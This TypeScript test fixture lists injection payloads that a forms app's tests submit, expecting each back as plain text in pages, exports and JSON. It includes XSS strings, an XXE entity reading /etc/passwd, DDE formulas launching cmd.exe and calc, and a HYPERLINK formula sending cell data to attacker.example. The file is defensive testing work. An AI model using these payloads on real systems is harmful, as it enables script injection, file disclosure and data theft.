/**
 * Hostile text a participant could type into any field (issue 12,
 * "Injection"): markup and script for the pages, formula and DDE starts for
 * the spreadsheets, XML breakers for Word, PDF operators, bidi overrides.
 * Every payload is text a form accepts (`isStorableText`), so the tests write
 * them through the lib as a person would, and expect each one back, exactly,
 * as text: in the page, in every export, in the JSON.
 *
 * The page payloads that would run script set `window.__xss`, so a spec can
 * tell that one ran even where no dialog opens.
 */

export type XssPayload = { name: string; text: string }

/** The payload whose characters the PDF's font cannot draw. */
export const NO_PDF_GLYPHS = 'scripts without PDF glyphs and emoji'

export const xssPayloads: readonly XssPayload[] = [
  { name: 'script tag', text: '<script>window.__xss=1;alert("script")</script>' },
  { name: 'img onerror', text: '<img src=x onerror="window.__xss=2;alert(2)">' },
  { name: 'svg onload', text: '<svg/onload=window.__xss=3;alert(3)><circle r="9"/></svg>' },
  { name: 'markdown javascript link', text: '[click me](javascript:window.__xss=4;alert(4))' },
  { name: 'markdown javascript image', text: '![pic](javascript:window.__xss=5;alert(5))' },
  { name: 'markdown data link', text: '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCg2KTwvc2NyaXB0Pg==)' },
  { name: 'markdown link with entity-encoded scheme', text: '[x](&#106;avascript:window.__xss=7)' },
  { name: 'autolink javascript', text: '<javascript:window.__xss=8;alert(8)>' },
  { name: 'iframe srcdoc', text: '<iframe srcdoc="<script>parent.__xss=9</script>"></iframe>' },
  { name: 'attribute breakout', text: '" onmouseover="window.__xss=10" autofocus onfocus="window.__xss=10" x="' },
  { name: 'single-quote breakout', text: "'><script>window.__xss=11</script>" },
  { name: 'html entities', text: '&lt;script&gt;window.__xss=12&lt;/script&gt; &amp; &#x3C;b&#x3E; &quot;' },
  { name: 'broken tags', text: '<<script>window.__xss=13//<</script> <img src="x" <b onclick=alert(13)>' },
  {
    name: 'style and css expression',
    text: '<style>body{background:url("javascript:alert(14)")}</style><div style="x:expression(alert(14))">',
  },
  { name: 'template injection', text: '{{constructor.constructor("window.__xss=15")()}} ${7*7} <%= 7*7 %> #{7*7}' },
  { name: 'rtl override', text: 'harmless\u202Egpj.exe\u202C and \u2066isolated\u2069 \u200Bzero-width' },
  { name: 'cdata end', text: ']]><![CDATA[<script>window.__xss=16</script>]]>' },
  { name: 'xml breaker', text: '</w:t></w:r></w:p><w:p><w:r><w:t>injected paragraph</w:t></w:r></w:p><w:p><w:r><w:t>' },
  { name: 'xml entity declaration', text: '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>' },
  {
    name: 'office field code',
    text: '{ HYPERLINK "http://attacker.example/" } { INCLUDETEXT "c:\\\\secret.txt" } { DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }',
  },
  { name: 'dde formula', text: "=cmd|' /C calc'!A0" },
  { name: 'plus formula', text: '+HYPERLINK("http://attacker.example/?"&A1,"Click")' },
  { name: 'minus formula', text: "-2+3+cmd|' /C calc'!A0" },
  { name: 'at formula', text: "@SUM(1+9)*cmd|' /C calc'!A0" },
  { name: 'tab formula', text: '\t=1+1' },
  { name: 'carriage return formula', text: '\r=1+1' },
  { name: 'pdf operators', text: ') Tj ET BT /F1 99 Tf (injected) Tj ET %%EOF\n/JavaScript (app.alert(17)) /OpenAction' },
  { name: 'xml noncharacters', text: 'before\uFFFE\uFFFFafter' },
  { name: 'accents and scripts', text: 'Côte d’Ivoire, Türkiye, São Tomé, e\u0301, Ελληνικά, Кириллица' },
  // The PDF's font (DejaVu Sans) has no glyphs for these: the PDF check leaves this one out.
  { name: 'scripts without PDF glyphs and emoji', text: '日本語, 한국어, 🇲🇽🌍👍🏽' },
]

/** Every payload in one text, one per line: for fields that hold one text per record, such as a name. */
export const allPayloadsText = xssPayloads.map(({ text }) => text).join('\n')

/** A payload marked with a label, so a test can find which one it is looking at. */
export function markedPayload(label: string, payload: XssPayload): string {
  return `${label}: ${payload.text}`
}
